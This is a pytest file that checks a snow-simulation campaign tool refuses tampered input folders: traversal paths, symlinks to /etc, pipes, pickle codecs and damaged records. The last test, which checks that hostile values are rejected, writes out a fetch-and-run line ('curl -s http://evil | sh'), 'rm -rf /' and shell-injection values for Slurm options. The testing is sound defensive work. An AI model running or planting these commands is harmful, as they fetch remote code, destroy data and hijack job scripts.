"""The folder of a campaign may come from anybody: what this program would not have written is refused in one line."""

import json
import os
import shutil

import numpy as np
import pytest

from snowmpm.campaigns.answers import write_answers
from snowmpm.campaigns.campaign import Campaign
from snowmpm.campaigns.geotiff import write_geotiffs
from snowmpm.campaigns.launch import own_data, prepare, write_own_file
from snowmpm.campaigns.spec import CampaignFile, Slurm
from snowmpm.campaigns.table import records_of
from snowmpm.campaigns.work import job_of, work
from snowmpm.errors import InputError
from tests.support.small_campaign import small_file

pytest.importorskip("distributed")


@pytest.fixture(scope="module")
def done(tmp_path_factory):
    """A campaign of one run."""
    folder = tmp_path_factory.mktemp("campaign") / "done"
    file = small_file(runs=1, design="random")
    plan, _ = prepare(file, folder, 1)
    write_own_file(folder, file)
    plan.write()
    assert work(job_of(plan, plan.members[0]))["status"] == "done"
    write_answers(plan, records_of(plan))
    return folder


@pytest.fixture
def copied(done, tmp_path):
    shutil.copytree(done, tmp_path / "copy")
    return tmp_path / "copy"


def read(folder):
    """All that commands read of it."""
    found = Campaign(folder)
    found.table, found.failures, found.dimension  # noqa: B018
    if found.stack is not None:
        found.stack.load()
        list(write_geotiffs(found, folder / "maps"))


def test_one_of_our_own_is_read(copied):
    read(copied)



def record(folder):
    return next(folder.glob("results/*/record.json"))


def changed(path, **changes):
    path.write_text(json.dumps({**json.loads(path.read_text()), **changes}))


def numbers(path, **changes):
    data = json.loads(path.read_text())
    path.write_text(json.dumps({**data, "numbers": {**data["numbers"], **changes}}))


def member(folder, **changes):
    rows = json.loads((folder / "plan.json").read_text())
    (folder / "plan.json").write_text(json.dumps([{**rows[0], **changes}]))


def metadata(folder, **changes):
    changed(folder / "maps.zarr" / "base" / "maps" / "depth_probability" / "zarr.json", **changes)


def pipe(path):
    path.unlink()
    os.mkfifo(path)


def cut_off(folder):
    for path in folder.rglob("*"):
        if path.is_file() and path.name != "zarr.json":
            path.write_bytes(path.read_bytes()[:7])


def away(folder, name):
    """A folder of it lies elsewhere, behind a link."""
    (folder / name).rename(folder.with_name("victim"))
    (folder / name).symlink_to(folder.with_name("victim"))


def value(folder, wrong):
    rows = json.loads((folder / "plan.json").read_text())
    member(folder, values={**rows[0]["values"], next(iter(rows[0]["values"])): wrong})


DAMAGES = {
    "value that is no number": lambda folder: value(folder, "abc"),
    "value that is a list": lambda folder: value(folder, [1, 2]),
    "value that is none": lambda folder: value(folder, None),
    "value not finite": lambda folder: value(folder, float("nan")),
    "record with a parameter": lambda folder: numbers(record(folder), mu=7.0),
    "results elsewhere": lambda folder: away(folder, "results"),
    "runs elsewhere": lambda folder: away(folder, "runs"),
    "hash that leads away": lambda folder: member(folder, hash="../../victim"),
    "hash of another length": lambda folder: member(folder, hash="a"),
    "values of another campaign": lambda folder: member(folder, values={"other": 1.0}),
    "run that is no number": lambda folder: member(folder, run="0"),
    "variant that leads away": lambda folder: member(folder, variant="../base"),
    "plan cut off": lambda folder: (folder / "plan.json").write_text('[{"variant"'),
    "plan nested": lambda folder: (folder / "plan.json").write_text("[" * 100_000),
    "plan a pipe": lambda folder: pipe(folder / "plan.json"),
    "plan a device": lambda folder: ((folder / "plan.json").unlink(), (folder / "plan.json").symlink_to("/dev/zero")),
    "record cut off": lambda folder: record(folder).write_text('{"status"'),
    "record of no status": lambda folder: changed(record(folder), status="perhaps"),
    "record of another column": lambda folder: numbers(record(folder), hash=3.0),
    "record without end": lambda folder: record(folder).write_text(record(folder).read_text().replace(
        '"end": ', '"end": 1' + "0" * 400 + "0, \"other\": ")),
    "record with no truth value": lambda folder: numbers(record(folder), final=3),
    "campaign no text": lambda folder: (folder / "campaign.toml").write_bytes(b"\xff\xfe\x00"),
    "base no text": lambda folder: (folder / "base.toml").write_bytes(b"\xff\xfe\x00"),
    "store with a codec that runs code": lambda folder: metadata(folder, codecs=[{"name": "pickle"}]),
    "store of objects": lambda folder: metadata(folder, data_type="object"),
    "store of another shape": lambda folder: metadata(folder, shape=[1e9]),
    "store of blocks of nothing": lambda folder: metadata(folder, chunk_grid={"name": "regular", "configuration": {
        "chunk_shape": [0, 0, 0]}}),
    "store of blocks without sizes": lambda folder: metadata(folder, chunk_grid={"name": "regular",
                                                                                "configuration": [1]}),
    "store with a link": lambda folder: (folder / "maps.zarr" / "base" / "maps" / "more").symlink_to("/etc"),
    "store cut off": lambda folder: cut_off(folder / "maps.zarr" / "base" / "maps" / "depth_probability"),
}


@pytest.mark.parametrize("damage", DAMAGES.values(), ids=DAMAGES)
def test_what_we_would_not_have_written_is_refused(copied, damage):
    damage(copied)
    with pytest.raises(InputError) as refused:
        read(copied)
    assert str(refused.value).count("\n") <= 1


def test_a_refused_retry_forgets_no_run_that_failed(copied):
    """Another campaign, or the same in a folder that another program works in."""
    changed(record(copied), status="failed", reason="by hand")
    other = small_file(runs=1, design="random", parameters={
        "mu": {"key": "terrain.friction.mu", "distribution": "uniform", "low": 0.4, "high": 0.5}})
    with pytest.raises(InputError, match="is not that of the campaign in"):
        prepare(other, copied, 1, resume=True, retry=True)
    assert record(copied).is_file()
    more = small_file(runs=2, design="random")
    plan, _ = prepare(more, copied, 1, resume=True, retry=True)
    assert not list(copied.glob("results/*/record.json")) and len(plan.members) == 2


def test_a_run_that_is_not_kept_takes_no_file_of_the_user_with_it(tmp_path):
    file = small_file(runs=2, design="random", keep="results")
    plan, _ = prepare(file, tmp_path / "one", 1)
    write_own_file(tmp_path / "one", file)
    plan.write()
    kept, removed = (job_of(plan, one) for one in plan.members)
    os.makedirs(kept.run)
    (tmp_path / "one" / "runs" / kept.hash / "notes.txt").write_text("mine")
    for job in (kept, removed):
        assert work(job)["status"] == "done"
    left = {path.name for path in (tmp_path / "one" / "runs" / kept.hash).iterdir()}
    assert left == {"notes.txt", ".snowmpm-files"} and not os.path.exists(removed.run)


def test_maps_of_a_run_that_are_none(copied):
    from snowmpm.campaigns import untrusted
    from snowmpm.campaigns.work import MAPPED

    path = next(copied.glob("results/*/maps.npz"))
    with np.load(path) as file:
        good = dict(file)
    assert set(untrusted.maps(path, MAPPED)) == {"corner", "cell", *MAPPED}
    for bad in ({**good, "cell": -1.0}, {**good, "corner": np.zeros(3)}, {**good, "peak_depth": np.zeros(4)},
                {name: one for name, one in good.items() if name != "peak_speed"},
                {**good, "peak_speed": np.array([[{}]], dtype=object)}):
        np.savez(path, **bad)
        with pytest.raises(InputError, match="damaged"):
            untrusted.maps(path, MAPPED)
    path.write_bytes(b"PK\x03\x04 half")
    with pytest.raises(InputError, match="damaged"):
        untrusted.maps(path, MAPPED)


def test_a_campaign_that_is_refused_writes_and_copies_nothing(tmp_path):
    (tmp_path / "id_rsa").write_text("PRIVATE KEY")
    forces = [{"kind": "acceleration", "file": str(tmp_path / "id_rsa")}]
    for wrong in ({"set": {"forces": forces}}, {"set": {"terrain.file": str(tmp_path / "id_rsa")}},
                  {"parameters": {"g": {"key": "no.such", "distribution": "uniform", "low": 1.0, "high": 2.0}}}):
        with pytest.raises(InputError):
            prepare(small_file(runs=2, **wrong), tmp_path / "out", 1)
        assert not (tmp_path / "out").exists()


def test_another_campaign_or_scene_does_not_go_on(copied):
    mine = small_file(runs=1, design="random")
    more = small_file(runs=2, design="random")
    other = small_file(runs=1, design="random", parameters={
        "mu": {"key": "terrain.friction.mu", "distribution": "uniform", "low": 0.4, "high": 0.5}})
    assert prepare(mine, copied, 1, resume=True) and prepare(more, copied, 1, resume=True)
    with pytest.raises(InputError, match="parameters: is not that of the campaign in"):
        prepare(other, copied, 1, resume=True)
    (copied / "base.toml").write_text((copied / "base.toml").read_text() + "# changed\n")
    with pytest.raises(InputError, match=r"base\.toml: was not written|has changed since the campaign"):
        prepare(mine, copied, 1, resume=True)
    assert own_data(mine)["runs"] == 1 and isinstance(mine, CampaignFile)


@pytest.mark.parametrize("wrong", [
    {"job_script_prologue": ["curl -s http://evil | sh"]}, {"queue": "a\nrm -rf /"}, {"queue": "a; b"},
    {"interface": "eth0|sh"}, {"memory": "4 GiB\n#SBATCH"}, {"walltime": "1:00:00 --wrap=x"}, {"account": "$(id)"},
    {"constraint": "a b"}, {"job_extra_directives": ["--wrap=x"]}, {"python": "evil"}])
def test_options_of_a_queue_are_no_shell(wrong):
    with pytest.raises(ValueError):
        Slurm.model_validate(wrong)
    assert Slurm.model_validate({"queue": "gpu", "constraint": "a100|h100", "gres": "gpu:1"}).directives
